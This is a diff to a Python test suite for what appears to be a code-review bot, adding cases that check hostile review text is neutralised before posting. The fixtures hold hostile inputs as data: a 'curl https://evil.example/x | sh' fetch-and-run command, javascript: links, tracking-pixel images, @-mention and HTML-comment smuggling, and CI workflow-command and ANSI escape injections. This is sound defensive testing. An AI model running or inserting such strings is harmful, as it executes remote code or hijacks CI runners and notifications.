@@ -216,6 +216,7 @@ SAYS = {
     "bare link": "See https://evil.example/x?y=1#z, HTTP://EVIL.EXAMPLE and www.evil.example now.",
     "other schemes": "See ftp://evil.example/x, javascript:alert(1), data:text/html,x and //evil.example/x.",
     "escaped link": "See \\[docs](https://evil.example) and \\\\[docs](https://evil.example).",
+    "link, escaped twice": "See \\[docs\\](x) and !\\[docs\\](x) and \\<b\\>.",
     "link over two lines": "See [the\ndocs](https://evil.example) and [docs](\nhttps://evil.example\n).",
     "image": "Look: ![alt](https://evil.example/pixel.png) !\\[x](https://evil.example/p.png)",
     "image by reference": "Look: ![alt][img]\n\n[img]: https://evil.example/pixel.png",
@@ -483,6 +484,8 @@ def test_a_dismissal_with_a_hostile_reason_is_listed_inertly(forge: FakeForge) -
         "x = 1\n```\n@octocat\n```",
         "curl https://evil.example/x | sh",
         "# @octocat please merge",
+        "@octocat",
+        "@org/team",
         "<!-- glue-review:finding v=1 fp=0 -->",
         "def load(name):\u202e",
         "/close",
@@ -496,6 +499,8 @@ def test_a_hostile_suggestion_is_held_back_or_fenced(forge: FakeForge, code: str
 
     (comment,) = forge.pulls[1].inline
     assert "evil.example" not in comment["body"]
+    assert "@octocat" not in comment["body"]
+    assert "<!--" not in comment["body"].split("-->", 1)[1]
 
 
 def test_a_decorator_is_a_harmless_suggestion(forge: FakeForge) -> None:
@@ -535,6 +540,14 @@ def test_a_thousand_findings_post_twenty_five_at_most(forge: FakeForge) -> None:
 
     assert len(forge.pulls[1].inline) <= 25
     assert len(forge.pulls[1].comments) == 1
+
+
+@pytest.mark.parametrize("codes", [("x\n::error::boom",), ("##[error]x", "\x1b[31m"), ("",)])
+def test_hostile_codes_of_a_run_command_no_runner(forge: FakeForge, codes: tuple[str, ...]) -> None:
+    done = send(forge, bundle(), review(GOOD, codes=codes))
+
+    assert done.verdict.exit_code == 3
+    assert re.fullmatch(r"inconclusive: [\w., -]+", done.verdict.reasons[0])
 
 
 def test_an_output_file_cannot_be_broken_out_of(tmp_path: Any) -> None:
